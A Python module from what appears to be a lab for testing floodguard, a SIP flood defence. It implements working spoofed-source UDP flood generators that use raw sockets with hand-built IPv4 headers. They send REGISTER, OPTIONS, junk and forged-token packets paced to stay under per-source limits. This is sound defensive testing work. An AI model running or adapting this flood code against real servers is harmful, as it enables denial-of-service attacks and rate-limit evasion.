"""The spoofed botnet's generators (run through ``python -m floodguard.lab.attacks NAME``).

Every variant sends from ``--botnet-sources`` spoofed addresses of the lab's botnet range (raw
socket, ``IP_HDRINCL``), round-robin, at ``--rate`` packets/s in all, so each source stays under
floodguard's per-source limits; the answers go elsewhere and nothing comes back to count. The
variants differ only in what each packet carries:

- ``botnet``: REGISTERs with bogus credentials (a made-up nonce, a random password);
- ``botnet-noauth``: REGISTERs without credentials (each one asks for a digest challenge);
- ``botnet-options``: OPTIONS pings;
- ``botnet-junk``: random bytes that are not SIP at all;
- ``botnet-token``: bogus credentials, every other source's with an opaque that starts with
  the guard's public token prefix (``fg1.``), made up like the rest: an attacker who read
  floodguard's source forging answers to challenges it never received, so that the budget for
  answers and the budget for everything else are both contested.

Each packet is built once per source with an 8-character placeholder (``@@@@@@@@``) that the
flood replaces by a counter, so every packet is a new transaction and its length never changes.
"""

from __future__ import annotations

import argparse
import random
import secrets
import socket
import struct
import time
from collections.abc import Callable
from typing import Any

from floodguard.lab import sip
from floodguard.lab.pacing import Pacer
from floodguard.sip import build, digest
from floodguard.sip.proof import PREFIX as TOKEN_PREFIX

MARK = b"@@@@@@@@"
BRANCH = "z9hG4bKbot" + MARK.decode()
BOT_AGENT = "Linksys/SPA942-6.1.5"

# One packet's SIP payload: (source index, source address, source port, server, user) -> bytes
# holding MARK once.
Payload = Callable[[int, str, int, str, str], bytes]


def ip_checksum(header: bytes) -> int:
    """The IPv4 header checksum of a 20-byte header (checksum field zeroed)."""
    total = sum(struct.unpack("!10H", header))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def spoofed_datagram(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
    """An IPv4+UDP packet for a raw IP_HDRINCL socket (UDP checksum 0: optional in IPv4)."""
    length = 20 + 8 + len(payload)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", ip_checksum(header)) + header[12:]
    return header + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def _bogus_credentials(_i: int, src: str, sport: int, server: str, user: str,
                       opaque: str | None = None) -> bytes:
    auth = digest.authorization_header(user, secrets.token_hex(8), sip.REALM,
                                       secrets.token_hex(16), f"sip:{server}", "REGISTER",
                                       cnonce=secrets.token_hex(4), opaque=opaque)
    return build.register(server, user=user, local=f"{src}:{sport}",
                          call_id=f"{secrets.token_hex(8)}@{src}", cseq=2, expires=60,
                          authorization=auth, branch=BRANCH, user_agent=BOT_AGENT)


def _forged_token(i: int, src: str, sport: int, server: str, user: str) -> bytes:
    if i % 2:
        return _bogus_credentials(i, src, sport, server, user)
    # shaped like the guard's token: prefix, a base64 MAC, a dot, the registrar's opaque
    opaque = TOKEN_PREFIX.decode() + secrets.token_urlsafe(16) + "." + secrets.token_hex(8)
    return _bogus_credentials(i, src, sport, server, user, opaque)


def _no_credentials(_i: int, src: str, sport: int, server: str, user: str) -> bytes:
    return build.register(server, user=user, local=f"{src}:{sport}",
                          call_id=f"{secrets.token_hex(8)}@{src}", cseq=1, expires=60,
                          branch=BRANCH, user_agent=BOT_AGENT)


def _options(_i: int, src: str, sport: int, server: str, user: str) -> bytes:
    return build.options(f"sip:{user}@{server}", local=f"{src}:{sport}",
                         call_id=f"{secrets.token_hex(8)}@{src}", branch=BRANCH,
                         user_agent=BOT_AGENT, headers=["Accept: application/sdp"])


def _junk(i: int, _src: str, _sport: int, _server: str, _user: str) -> bytes:
    rng = random.Random(i)
    size = rng.randrange(40, 600)
    body = rng.randbytes(size)  # one call: 25,000 sources must be built in well under 1 s
    cut = rng.randrange(size)
    return body[:cut] + MARK + body[cut:]


PAYLOADS: dict[str, Payload] = {
    "botnet": _bogus_credentials,
    "botnet-noauth": _no_credentials,
    "botnet-options": _options,
    "botnet-junk": _junk,
    "botnet-token": _forged_token,
}


def botnet_packets(sources: list[str], server: str, users: int, kind: str = "botnet"
                   ) -> list[tuple[bytes, bytes]]:
    """Per spoofed source, one packet of the variant ``kind`` split around its 8-character
    counter. Half of the users are lab accounts, half made up."""
    rng = random.Random(7)
    payload = PAYLOADS[kind]
    out = []
    for i, src in enumerate(sources):
        sport = 5060 + (i % 3) * 1000
        user = str(sip.FIRST_USER + rng.randrange(users)) if i % 2 else f"u{rng.randrange(10**6)}"
        packet = spoofed_datagram(src, server, sport, sip.SIP_PORT,
                                  payload(i, src, sport, server, user))
        head, tail = packet.split(MARK, 1)
        out.append((head, tail))
    return out


def flood(args: argparse.Namespace, kind: str) -> dict[str, Any]:
    """Send the variant's packets round-robin over every source, at --rate packets/s in all."""
    packets = botnet_packets(args.sources, args.server, args.users, kind)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
    dest = (args.server, 0)
    n = len(packets)
    pacer = Pacer(args.rate, args.duration)
    sent = errors = 0
    send = raw.sendto
    while (due := pacer.due()) >= 0:
        for _ in range(due):
            head, tail = packets[sent % n]
            try:
                send(head + b"%08x" % (sent // n) + tail, dest)
            except OSError:
                errors += 1
            sent += 1
        pacer.done += due
    elapsed = time.monotonic() - pacer.start
    return {"sent": sent, "answered": 0, "sources": n, "send_errors": errors, "variant": kind,
            "per_source_rate": round(sent / n / max(elapsed, 1e-9), 3),
            "rate": round(sent / max(elapsed, 1e-9), 1)}


def botnet(args: argparse.Namespace) -> dict[str, Any]:
    """Spoofed REGISTERs with bogus credentials."""
    return flood(args, "botnet")


def botnet_noauth(args: argparse.Namespace) -> dict[str, Any]:
    """Spoofed REGISTERs without credentials."""
    return flood(args, "botnet-noauth")


def botnet_options(args: argparse.Namespace) -> dict[str, Any]:
    """Spoofed OPTIONS."""
    return flood(args, "botnet-options")


def botnet_junk(args: argparse.Namespace) -> dict[str, Any]:
    """Spoofed random bytes to the SIP port."""
    return flood(args, "botnet-junk")


def botnet_token(args: argparse.Namespace) -> dict[str, Any]:
    """Spoofed REGISTERs with bogus credentials, half of them with a forged token prefix."""
    return flood(args, "botnet-token")
